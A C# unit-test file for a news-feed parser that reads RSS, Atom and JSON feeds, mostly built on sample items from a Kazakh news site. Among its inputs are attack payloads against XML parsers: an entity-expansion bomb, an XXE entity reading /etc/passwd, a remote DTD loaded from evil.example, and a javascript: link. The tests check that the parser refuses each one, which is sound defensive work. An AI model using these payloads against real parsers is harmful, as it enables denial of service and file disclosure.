using System.Diagnostics;
using System.Globalization;
using DigestBot.Core.Feeds;

namespace DigestBot.Core.Tests.Feeds;

public class FeedParserTests
{
    private static readonly Uri FeedUrl = new("https://www.zakon.kz/rss/news.xml");

    private const string Rss20 = """
        <?xml version="1.0" encoding="UTF-8"?>
        <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
          <channel>
            <title>Zakon.kz</title>
            <link>https://www.zakon.kz/</link>
            <description>Новости</description>
            <language>ru</language>
            <item>
              <title>Нацбанк сохранил ставку</title>
              <link>https://www.zakon.kz/news/1</link>
              <guid isPermaLink="false">zakon-1</guid>
              <pubDate>Thu, 25 Dec 2025 16:46:00 +0500</pubDate>
              <category>экономика</category>
              <description>&lt;p&gt;Кратко&lt;/p&gt;</description>
              <content:encoded><![CDATA[<p>Полный текст</p>]]></content:encoded>
            </item>
          </channel>
        </rss>
        """;

    private const string Rss10 = """
        <?xml version="1.0"?>
        <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
                 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
          <channel rdf:about="https://www.zakon.kz/">
            <title>Zakon.kz</title>
            <link>https://www.zakon.kz/</link>
            <dc:language>ru</dc:language>
          </channel>
          <item rdf:about="https://www.zakon.kz/news/1">
            <title>Нацбанк сохранил ставку</title>
            <link>https://www.zakon.kz/news/1</link>
            <dc:date>2025-12-25T16:46:00+05:00</dc:date>
            <dc:subject>экономика</dc:subject>
            <description>&lt;p&gt;Кратко&lt;/p&gt;</description>
            <content:encoded><![CDATA[<p>Полный текст</p>]]></content:encoded>
          </item>
        </rdf:RDF>
        """;

    private const string Rss091 = """
        <?xml version="1.0"?>
        <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
        <rss version="0.91">
          <channel>
            <title>Zakon.kz</title>
            <link>https://www.zakon.kz/</link>
            <item>
              <title>Нацбанк сохранил ставку</title>
              <link>https://www.zakon.kz/news/1</link>
              <description>&lt;p&gt;Кратко&lt;/p&gt;</description>
            </item>
          </channel>
        </rss>
        """;

    private const string Atom10 = """
        <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ru">
          <title>Zakon.kz</title>
          <link rel="alternate" href="https://www.zakon.kz/"/>
          <link rel="self" href="https://www.zakon.kz/rss/news.atom"/>
          <id>tag:zakon.kz,2025:feed</id>
          <updated>2025-12-25T12:00:00Z</updated>
          <entry>
            <title type="html">Нацбанк &lt;b&gt;сохранил&lt;/b&gt; ставку</title>
            <id>zakon-1</id>
            <link rel="alternate" href="https://www.zakon.kz/news/1"/>
            <published>2025-12-25T11:46:00Z</published>
            <updated>2025-12-25T12:00:00Z</updated>
            <category term="экономика"/>
            <summary>Кратко</summary>
            <content type="html">&lt;p&gt;Полный текст&lt;/p&gt;</content>
          </entry>
        </feed>
        """;

    private const string JsonFeed11 = """
        {
          "version": "https://jsonfeed.org/version/1.1",
          "title": "Zakon.kz",
          "home_page_url": "https://www.zakon.kz/",
          "language": "ru",
          "items": [
            {
              "id": "zakon-1",
              "url": "https://www.zakon.kz/news/1",
              "title": "Нацбанк сохранил ставку",
              "summary": "Кратко",
              "content_html": "<p>Полный текст</p>",
              "date_published": "2025-12-25T16:46:00+05:00",
              "date_modified": "2025-12-25T17:00:00+05:00",
              "tags": ["экономика"]
            }
          ]
        }
        """;

    public static TheoryData<string, FeedKind, string?, bool> Formats => new()
    {
        // text, kind, id, whether the feed is a full one (date, content, categories, language) rather than a bare RSS 0.91
        { Rss20, FeedKind.Rss, "zakon-1", true },
        { Rss10, FeedKind.Rss, null, true },
        { Rss091, FeedKind.Rss, null, false },
        { Rss20.Replace("<rss version=\"2.0\"", "<rss", StringComparison.Ordinal), FeedKind.Rss, "zakon-1", true },
        { Atom10, FeedKind.Atom, "zakon-1", true },
        { JsonFeed11, FeedKind.JsonFeed, "zakon-1", true },
        { JsonFeed11.Replace("version/1.1", "version/1", StringComparison.Ordinal), FeedKind.JsonFeed, "zakon-1", true },
    };

    [Theory]
    [MemberData(nameof(Formats))]
    public void Every_format_reads_into_the_same_entry(string text, FeedKind kind, string? id, bool dated)
    {
        var feed = Parse(text);

        feed.Kind.Should().Be(kind);
        feed.Title.Should().Be("Zakon.kz");
        feed.SiteUrl.Should().Be("https://www.zakon.kz/");
        feed.Problems.Should().BeEmpty();
        var entry = feed.Entries.Should().ContainSingle().Subject;
        entry.Id.Should().Be(id);
        entry.Title.Should().Be("Нацбанк сохранил ставку");
        entry.Link.Should().Be("https://www.zakon.kz/news/1");
        entry.SummaryHtml.Should().Contain("Кратко");
        entry.PublishedAt.Should().Be(dated ? new DateTimeOffset(2025, 12, 25, 16, 46, 0, TimeSpan.FromHours(5)) : null);
        if (dated)
        {
            entry.ContentHtml.Should().Be("<p>Полный текст</p>");
            entry.Categories.Should().Equal("экономика");
            feed.Language.Should().Be("ru");
        }
    }

    [Theory]
    [InlineData("Thu, 25 Dec 2025 16:46:00 +0500", "2025-12-25T16:46:00+05:00")]
    [InlineData("Пн, 30 Ноя 2026 14:20:00 +0500", "2026-11-30T14:20:00+05:00")]
    [InlineData("2026-11-30 14:20", "2026-11-30T14:20:00+05:00")]
    [InlineData("30.11.2026 14:20", "2026-11-30T14:20:00+05:00")]
    [InlineData("Mon, 30 Nov 2026 14:20:00 GMT", "2026-11-30T14:20:00+00:00")]
    [InlineData("Mon, 30 Nov 2026 14:20:00 EST", "2026-11-30T14:20:00-05:00")]
    [InlineData("Mon, 30 Nov 2026 14:20:00 PDT", "2026-11-30T14:20:00-07:00")]
    [InlineData("2026-11-30T09:20:00Z", "2026-11-30T09:20:00+00:00")]
    [InlineData("2026-11-30T14:20:00.123+06:00", "2026-11-30T14:20:00+06:00")]
    [InlineData("вчера вечером", null)]
    [InlineData("31 Feb 2026", null)]
    public void Dates_are_read_however_they_are_written_and_an_unreadable_one_is_null(string written, string? expected)
    {
        var rss = Channel($"<item><title>t</title><link>https://a.kz/1</link><pubDate>{written}</pubDate></item>");
        var atom = $"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><title>t</title><link href="https://a.kz/1"/><published>{written}</published></entry></feed>""";
        var json = $$"""{"version": "https://jsonfeed.org/version/1.1", "items": [{"url": "https://a.kz/1", "date_published": "{{written}}"}]}""";
        var date = expected is null ? (DateTimeOffset?)null : DateTimeOffset.Parse(expected, CultureInfo.InvariantCulture);

        foreach (var text in new[] { rss, atom, json })
        {
            var entry = Parse(text).Entries.Should().ContainSingle().Subject;
            entry.PublishedAt.Should().Be(date, text);
            entry.Link.Should().Be("https://a.kz/1");
        }
    }

    [Theory]
    [InlineData("<guid>g-1</guid><link>https://a.kz/1</link>", "g-1")]
    [InlineData("<guid>  </guid><link>https://a.kz/1</link>", null)]
    [InlineData("<link>https://a.kz/1</link>", null)]
    public void A_missing_guid_leaves_the_id_null_for_the_caller_to_fall_back_on_the_link(string item, string? id) =>
        Parse(Channel($"<item><title>t</title>{item}</item>")).Entries.Single().Id.Should().Be(id);

    [Theory]
    [InlineData("""<rss version="2.0"><channel><title>t</title><item><link>/news/1</link></item></channel></rss>""", "https://www.zakon.kz/news/1")]
    [InlineData("""<rss version="2.0"><channel><title>t</title><item><link>news/1?a=b</link></item></channel></rss>""", "https://www.zakon.kz/rss/news/1?a=b")]
    [InlineData("""<rss version="2.0"><channel><title>t</title><item><link>//cdn.zakon.kz/x</link></item></channel></rss>""", "https://cdn.zakon.kz/x")]
    [InlineData("""<rss version="2.0" xml:base="https://kapital.kz/economy/"><channel><title>t</title><item><link>1.html</link></item></channel></rss>""", "https://kapital.kz/economy/1.html")]
    [InlineData("""<rss version="2.0"><channel xml:base="/ru/"><title>t</title><item><link>1.html</link></item></channel></rss>""", "https://www.zakon.kz/ru/1.html")]
    [InlineData("""<rss><channel><title>t</title><item xml:base="https://kapital.kz/a/"><link>b</link></item></channel></rss>""", "https://kapital.kz/a/b")]
    [InlineData("""<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://astanatimes.com/2025/"><title>t</title><entry><link href="12/senate"/></entry></feed>""", "https://astanatimes.com/2025/12/senate")]
    [InlineData("""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry xml:base="https://astanatimes.com/"><link href="x"/></entry></feed>""", "https://astanatimes.com/x")]
    [InlineData("""<rss version="2.0"><channel><title>t</title><item><link>http://exa mple.kz:99999/[</link></item></channel></rss>""", null)]
    [InlineData("""<rss version="2.0"><channel><title>t</title><item><link>javascript:alert(1)</link></item></channel></rss>""", null)]
    [InlineData("""<rss version="2.0"><channel><title>t</title><item><link>ftp://zakon.kz/1</link></item></channel></rss>""", null)]
    public void Links_are_made_absolute_against_xml_base_and_the_feed_url_and_a_broken_one_is_null(string text, string? link) =>
        Parse(text).Entries.Single().Link.Should().Be(link);

    [Fact]
    public void A_relative_link_without_a_feed_url_is_null_rather_than_a_guess() =>
        FeedParser.Parse(Channel("<item><title>t</title><link>/news/1</link></item>"), null, out _)!.Entries.Single().Link.Should().BeNull();

    [Theory]
    [InlineData("&lt;b&gt;Срочно&lt;/b&gt;: Сенат принял закон", "Срочно: Сенат принял закон")]
    [InlineData("Сенат принял &amp;quot;закон о медиации&amp;quot;", "Сенат принял \"закон о медиации\"")]
    [InlineData("<![CDATA[<i>Астана</i> &amp; Алматы]]>", "Астана & Алматы")]
    [InlineData("  Несколько\n   строк\tзаголовка ", "Несколько строк заголовка")]
    [InlineData("&lt;br/&gt;", null)]
    public void Html_in_a_title_becomes_plain_text(string written, string? title) =>
        Parse(Channel($"<item><title>{written}</title><link>https://a.kz/1</link></item>")).Entries.Single().Title.Should().Be(title);

    [Theory]
    [InlineData("<title type=\"text\">a &lt; b</title>", "a < b")]
    [InlineData("<title type=\"html\">&lt;em&gt;Срочно&lt;/em&gt;</title>", "Срочно")]
    [InlineData("<title type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><em>Срочно</em> сейчас</div></title>", "Срочно сейчас")]
    public void Atom_titles_follow_their_type(string title, string expected) =>
        Parse($"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry>{title}<link href="https://a.kz/1"/></entry></feed>""")
            .Entries.Single().Title.Should().Be(expected);

    [Theory]
    [InlineData("<description><![CDATA[<p>Школа на <b>1200</b> мест</p>]]></description>", null, "<p>Школа на <b>1200</b> мест</p>")]
    [InlineData("<content:encoded><![CDATA[<p>Полный]]></content:encoded>", "<p>Полный", null)]
    [InlineData("<description>&lt;p&gt;Экранированный&lt;/p&gt;</description>", null, "<p>Экранированный</p>")]
    public void Cdata_and_escaped_html_come_out_as_the_same_markup(string fields, string? content, string? summary)
    {
        var entry = Parse(Channel($"<item><link>https://a.kz/1</link>{fields}</item>")).Entries.Single();

        entry.ContentHtml.Should().Be(content);
        entry.SummaryHtml.Should().Be(summary);
    }

    [Theory]
    [InlineData("text", "Строка один\nстрока два\n\nВторой абзац &amp;", "<p>Строка один<br>строка два</p><p>Второй абзац &amp;</p>")]
    [InlineData("html", "&lt;p&gt;Абзац&lt;/p&gt;", "<p>Абзац</p>")]
    public void Atom_text_content_is_wrapped_as_html(string type, string written, string html) =>
        Parse($"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><link href="https://a.kz/1"/><content type="{type}">{written}</content></entry></feed>""")
            .Entries.Single().ContentHtml.Should().Be(html);

    [Theory]
    [InlineData("""<enclosure url="/img/1.jpg" length="1" type="image/jpeg"/>""", "https://www.zakon.kz/img/1.jpg")]
    [InlineData("""<enclosure url="https://a.kz/1.mp3" length="1" type="audio/mpeg"/>""", null)]
    [InlineData("""<media:content url="https://a.kz/1.jpg" medium="image"/>""", "https://a.kz/1.jpg")]
    [InlineData("""<media:content url="https://a.kz/1.png" type="image/png"/>""", "https://a.kz/1.png")]
    [InlineData("""<media:content url="https://a.kz/1.mp4" type="video/mp4"/><media:thumbnail url="https://a.kz/t.jpg"/>""", "https://a.kz/t.jpg")]
    [InlineData("""<media:group><media:content url="https://a.kz/g.jpg" medium="image"/></media:group>""", "https://a.kz/g.jpg")]
    [InlineData("""<enclosure url="https://a.kz/e.jpg" length="1" type="image/jpeg"/><media:thumbnail url="https://a.kz/t.jpg"/>""", "https://a.kz/e.jpg")]
    [InlineData("", null)]
    public void The_image_comes_from_an_image_enclosure_then_media_content_then_media_thumbnail(string fields, string? image)
    {
        var item = $"<item><title>t</title><link>https://a.kz/1</link>{fields}</item>";

        Parse(Channel(item)).Entries.Single().ImageUrl.Should().Be(image);
        Parse(Channel(item).Replace("<rss version=\"2.0\"", "<rss version=\"0.92\"", StringComparison.Ordinal)).Entries.Single().ImageUrl.Should().Be(image, "the plain reader agrees");
    }

    [Theory]
    [InlineData("""{"url": "https://a.kz/1", "image": "/i.jpg", "banner_image": "https://a.kz/b.jpg"}""", "https://www.zakon.kz/i.jpg")]
    [InlineData("""{"url": "https://a.kz/1", "banner_image": "https://a.kz/b.jpg"}""", "https://a.kz/b.jpg")]
    [InlineData("""{"url": "https://a.kz/1"}""", null)]
    public void A_json_feed_image_is_the_image_then_the_banner(string item, string? image) =>
        Parse(Json(item)).Entries.Single().ImageUrl.Should().Be(image);

    [Fact]
    public void A_json_feed_item_uses_external_url_without_url_and_wraps_content_text()
    {
        var entry = Parse(Json("""{"id": 42, "external_url": "https://kapital.kz/a", "content_text": "Первый\n\nВторой <абзац>", "date_modified": "2026-01-02"}""")).Entries.Single();

        entry.Id.Should().Be("42");
        entry.Link.Should().Be("https://kapital.kz/a");
        entry.ContentHtml.Should().Be("<p>Первый</p><p>Второй &lt;абзац&gt;</p>");
        entry.PublishedAt.Should().BeNull();
        entry.UpdatedAt.Should().Be(new DateTimeOffset(2026, 1, 2, 0, 0, 0, TimeSpan.FromHours(5)));
    }

    [Fact]
    public void A_malformed_json_feed_item_is_a_problem_and_the_others_still_count()
    {
        var feed = Parse(Json("""
            {"id": "1", "url": "https://a.kz/1", "title": "Первая"},
            "not an item",
            {"id": "3", "url": "https://a.kz/3", "title": 17, "tags": "economy"},
            {"id": "4", "title": "Без ссылки и текста"}
            """));

        feed.Entries.Select(entry => entry.Id).Should().Equal("1", "3", "4");
        feed.Entries[1].Title.Should().BeNull();
        feed.Problems.Should().Equal(
            "item 2: not an object",
            "item 3: title, tags of the wrong type, ignored",
            "item 4: no link and no content");
    }

    [Fact]
    public void An_item_with_neither_link_nor_content_is_reported()
    {
        var feed = Parse(Channel("<item><title>Только заголовок</title></item><item><title>t</title><link>https://a.kz/2</link></item>"));

        feed.Entries.Should().HaveCount(2);
        feed.Problems.Should().Equal("item 1: no link and no content");
    }

    [Theory]
    [InlineData("""
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
          <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
          <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
          <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title><link>https://a.kz/1</link></item></channel></rss>
        """)]
    [InlineData("""
        <?xml version="1.0"?>
        <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
        <rss version="2.0"><channel><title>t</title><item><title>&xxe;</title><link>https://a.kz/1</link></item></channel></rss>
        """)]
    [InlineData("""
        <!-- a comment first -->
        <!DOCTYPE rss SYSTEM "https://evil.example/x.dtd" [ <!ENTITY % remote SYSTEM "https://evil.example/x"> %remote; ]>
        <rss version="2.0"><channel><title>t</title></channel></rss>
        """)]
    public void A_feed_that_declares_entities_is_refused_without_expanding_anything(string text)
    {
        var clock = Stopwatch.StartNew();

        var feed = FeedParser.Parse(text, FeedUrl, out var failure);

        feed.Should().BeNull();
        failure.Should().Be("refused: the feed declares a DTD (entities are not expanded)");
        clock.Elapsed.Should().BeLessThan(TimeSpan.FromSeconds(1));
    }

    [Fact]
    public void An_entity_a_dtd_would_define_is_an_error_not_an_expansion()
    {
        const string text = """
            <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
            <rss version="0.91"><channel><title>&eacute;</title><item><link>https://a.kz/1</link></item></channel></rss>
            """;

        FeedParser.Parse(text, FeedUrl, out var failure).Should().BeNull();
        failure.Should().NotBeNull();
    }

    [Theory]
    [InlineData("<item><title>третья", 2)]
    [InlineData("<item><title>третья</title><link>https://a.kz/3</link></item></chan", 3)]
    [InlineData("<item><title>третья</title><description><![CDATA[<p>обрыв", 2)]
    public void A_truncated_feed_gives_the_items_completed_before_the_break(string tail, int complete)
    {
        var text = Channel("<item><title>первая</title><link>https://a.kz/1</link></item><item><title>вторая</title><link>https://a.kz/2</link></item>" + tail);
        text = text[..(text.IndexOf(tail, StringComparison.Ordinal) + tail.Length)];

        var feed = Parse(text);

        feed.Entries.Select(entry => entry.Title).Should().StartWith(["первая", "вторая"]).And.HaveCount(complete);
        feed.Problems.Should().Equal($"feed is truncated after item {complete}");
    }

    [Fact]
    public void A_truncated_atom_feed_keeps_its_complete_entries()
    {
        const string text = """
            <feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
              <entry><title>one</title><link href="https://a.kz/1"/></entry>
              <entry><title>two
            """;

        var feed = Parse(text);

        feed.Kind.Should().Be(FeedKind.Atom);
        feed.Entries.Select(entry => entry.Title).Should().Equal("one");
        feed.Problems.Should().Equal("feed is truncated after item 1");
    }

    [Fact]
    public void Garbage_in_the_middle_is_reported_as_such_and_the_items_before_it_stay()
    {
        var feed = Parse(Channel("<item><title>первая</title><link>https://a.kz/1</link></item><item><title>A & B</title></item><item><title>третья</title></item>"));

        feed.Entries.Select(entry => entry.Title).Should().Equal("первая");
        feed.Problems.Should().ContainSingle().Which.Should().StartWith("unreadable XML after item 1: ");
    }

    [Fact]
    public void A_feed_cut_before_its_first_item_is_not_readable()
    {
        FeedParser.Parse("<rss version=\"2.0\"><channel><title>t</title><item><title>x", FeedUrl, out var failure).Should().BeNull();
        failure.Should().StartWith("unreadable XML before the first complete item");
    }

    [Theory]
    [InlineData("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Zakon.kz</title></head><body><p>Новости</p></body></html>")]
    [InlineData("<html><body><p>Новости<br></p></body></html>")]
    [InlineData("<?xml version=\"1.0\"?><sitemap><url>https://a.kz</url></sitemap>")]
    [InlineData("Просто текст, а не лента")]
    [InlineData("")]
    [InlineData("""{"title": "Zakon.kz", "items": []}""")]
    [InlineData("""{"version": "1.1", "items": []}""")]
    [InlineData("[1, 2, 3]")]
    public void Anything_else_is_not_a_feed(string text)
    {
        FeedParser.Parse(text, FeedUrl, out var failure).Should().BeNull();
        failure.Should().Be("not an RSS, Atom or JSON feed");
    }

    [Fact]
    public void Broken_json_is_not_a_feed_with_the_reason()
    {
        FeedParser.Parse("""{"version": "https://jsonfeed.org/version/1.1", "items": [{"url": """, FeedUrl, out var failure).Should().BeNull();
        failure.Should().StartWith("not valid JSON");
    }

    [Fact]
    public void An_rss_channel_without_description_or_version_still_reads()
    {
        var feed = Parse("<rss><channel><title>t</title><item><title>x</title><link>https://a.kz/1</link><pubDate>2026-01-01</pubDate></item></channel></rss>");

        feed.Entries.Single().PublishedAt.Should().Be(new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.FromHours(5)));
    }

    private static Feed Parse(string text)
    {
        var feed = FeedParser.Parse(text, FeedUrl, out var failure);
        failure.Should().BeNull();
        return feed!;
    }

    private static string Channel(string items) => $"""
        <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/">
          <channel><title>t</title><link>https://www.zakon.kz/</link>{items}</channel>
        </rss>
        """;

    private static string Json(string items) => $$"""{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [{{items}}]}""";

    [Theory]
    [InlineData("<description><![CDATA[<p>Нефть подорожала.</p>]]></description>", "<p>Нефть подорожала.</p>")]
    [InlineData("<description>Нефть подорожала.</description>", "Нефть подорожала.")]
    public void An_RSS_item_without_a_link_keeps_its_description(string description, string expected)
    {
        var xml = $"""
            <?xml version="1.0"?>
            <rss version="2.0"><channel><title>Лента</title><link>https://news.test/</link><description>Новости</description>
            <item><guid isPermaLink="false">1</guid><title>Новость</title>{description}</item>
            </channel></rss>
            """;

        var feed = FeedParser.Parse(xml, FeedUrl, out _)!;

        feed.Entries.Single().SummaryHtml.Should().Be(expected);
        feed.Problems.Should().BeEmpty();
    }
}
